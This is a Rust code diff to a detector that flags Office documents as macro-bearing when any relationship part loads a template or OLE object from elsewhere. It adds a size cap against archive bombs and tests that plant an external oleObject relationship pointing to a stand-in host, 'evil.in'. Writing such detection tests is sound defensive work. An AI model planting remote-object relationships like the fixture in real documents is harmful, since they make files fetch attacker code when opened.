@@ -24,10 +24,14 @@ pub(super) fn inspect(file: &[u8]) -> Option<DetectedContent> {
         if has_macros(&types.read(file)?) || entries.iter().any(|entry| ends_with(entry.name, b"vbaproject.bin")) {
             return Some(DetectedContent::Macros);
         }
-        for relations in RELATIONS {
-            if let Some(relations) = find(relations)
-                && loads_remote_code(&relations.read(file)?)
-            {
+        let mut read_bytes = 0;
+        for relations in entries.iter().filter(|entry| ends_with(entry.name, b".rels")) {
+            let relations = relations.read(file)?;
+            read_bytes += relations.len();
+            if read_bytes > MAX_RELATIONS_BYTES {
+                return None;
+            }
+            if loads_remote_code(&relations) {
                 return Some(DetectedContent::Macros);
             }
         }
@@ -59,11 +63,12 @@ fn has_macros(types: &[u8]) -> bool {
     [&b"vbaproject"[..], b"macroenabled", b"macrosheet", b"&#"].iter().any(|word| has(word))
 }
 
-/// The files in which a Word document names its template and the objects inside it.
-const RELATIONS: [&str; 2] = ["word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"];
+/// Maximum unpacked size of all files in which the parts of an Office document name what they refer to. Even a large presentation has less
+/// than a tenth.
+const MAX_RELATIONS_BYTES: usize = 8 * 1024 * 1024;
 
-/// Whether a document loads its template or an object from elsewhere when it is opened, with the macros in it. Word stores the path of
-/// a template on its author's machine, which is harmless.
+/// Whether a part of a document loads its template or an object from elsewhere when it is opened, with the macros in it. Word stores the
+/// path of a template on its author's machine, which is harmless.
 fn loads_remote_code(relations: &[u8]) -> bool {
     // As in `has_macros`.
     let plain: Vec<u8> = relations.iter().filter(|byte| **byte != 0).map(u8::to_ascii_lowercase).collect();
@@ -193,7 +198,7 @@ mod tests {
     }
 
     #[test]
-    fn a_document_that_loads_its_template_from_elsewhere_is_treated_as_one_with_macros() {
+    fn a_document_that_loads_its_template_or_an_object_from_elsewhere_is_treated_as_one_with_macros() {
         const TYPE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
         let names = ["[Content_Types].xml", "word/document.xml", "word/_rels/settings.xml.rels"];
         let inspect_with = |kind: &str, target: &str| {
@@ -216,6 +221,15 @@ mod tests {
         for target in ["file:///C:\\Users\\Asha\\Normal.dotm", "Normal.dotm", "embeddings/oleObject1.bin"] {
             assert_eq!(inspect_with("attachedTemplate", target), Some(DetectedContent::Docx), "{target}");
         }
+        let object = format!("<Relationship Type='{TYPE}oleObject' Target='https://evil.in/a' TargetMode='External'/>");
+        for part in ["xl/worksheets/_rels/sheet1.xml.rels", "ppt/slides/_rels/slide9.xml.rels", "word/_rels/renamed.rels"] {
+            let document = archive_of(&["[Content_Types].xml", part], object.as_bytes(), 0);
+            assert_eq!(inspect(&document), Some(DetectedContent::Macros), "{part}");
+        }
+        let packed = miniz_oxide::deflate::compress_to_vec(&vec![b' '; MAX_LIST_BYTES], 6);
+        let mut many = vec!["[Content_Types].xml"];
+        many.extend(["xl/_rels/a.rels"; 9]);
+        assert_eq!(inspect(&archive_of(&many, &packed, 8)), None);
     }
 
     #[test]
